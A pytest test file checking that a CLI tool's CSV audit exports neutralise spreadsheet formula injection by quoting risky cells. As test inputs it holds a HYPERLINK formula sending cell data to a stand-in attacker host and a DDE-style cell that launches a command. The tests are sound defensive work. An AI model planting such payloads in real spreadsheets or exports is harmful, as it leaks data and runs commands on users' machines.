"""CSV reports open in a spreadsheet as text: analyst-typed formulas are neutralised (issue 17).

Text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (or whitespace then one of
them) is read by spreadsheets as a formula. `mash audit export --format csv` writes every cell
through mash.csvcells, which prefixes such a cell with a single quote; plain text, numbers,
dates and hyphenated words inside a value are left exactly as they were.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest
from typer.testing import CliRunner

from mash.cli import app
from mash.csvcells import neutralise, write_dicts
from tests.helpers import Running, lookup_request

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open the case file")'


def export(config: str, *args: str) -> list[dict[str, str]]:
    """`mash audit export` (the real command, run in process to save a start-up)."""
    r = CliRunner().invoke(app, ["audit", "export", "--config", config, "--format", "csv",
                                 "--out", "-", *args], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return list(csv.DictReader(io.StringIO(r.stdout)))


@pytest.fixture
async def running(fed) -> AsyncIterator[Running]:
    """A broker and one agent (police): enough for both ends' exports."""
    async with Running.up(fed, ["police"]) as run:
        yield run


async def test_a_formula_typed_by_an_analyst_comes_out_as_text(running: Running) -> None:
    """A real lookup through the broker: the justification typed as a formula, and an analyst
    whose user id (from the IdP's token) begins with `@`, are neutralised in the broker's
    and an agency's export; the plain lookup beside it is exported unchanged (control)."""
    evil = running.analyst(token=running.fed.token(subject="@SUM(1+1)*cmd"))
    await evil.lookup(lookup_request(case="MASH-CSV-1", reason=FORMULA))
    plain = running.analyst()
    await plain.lookup(lookup_request(case="MASH-CSV-2", reason="School raised a concern - "
                                                                "bruising, 2 visits"))
    fed = running.fed
    for config in (str(fed.broker_config), str(fed.agent_configs["police"])):
        rows = export(config, "--case-reference", "MASH-CSV-1")
        assert rows and all(r["justification"] == "'" + FORMULA for r in rows), rows[0]
        assert all(r["requester"] == "'@SUM(1+1)*cmd" for r in rows)
        control = export(config, "--case-reference", "MASH-CSV-2")
        assert control and all(r["justification"] == "School raised a concern - bruising, "
                                                      "2 visits" for r in control)
        assert all(r["requester"] == "a.analyst" and r["case_reference"] == "MASH-CSV-2"
                   for r in control)
        assert all(r["recorded_at"][:1].isdigit() and not r["seq"].startswith("'")
                   for r in control)


@pytest.mark.parametrize("cell", [
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =cmd|' /C calc'!A0",
    "\u00a0@x", "\uff1d1+1", "-", "=",
])
def test_every_trigger_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    out = io.StringIO()
    write_dicts(out, fieldnames=["case_reference", "n"], rows=[{"case_reference": cell, "n": 3}])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"case_reference": "'" + cell, "n": "3"}


@pytest.mark.parametrize("cell", [
    "MASH-2026/001", "a.analyst", "Leeds MASH", "2026-12-03T10:00:00Z", "it's fine", "",
    "x=1", "one - two", "'=already quoted",
])
def test_plain_text_is_untouched(cell: str) -> None:
    assert neutralise(cell) == cell
    assert neutralise(7) == 7 and neutralise(None) is None
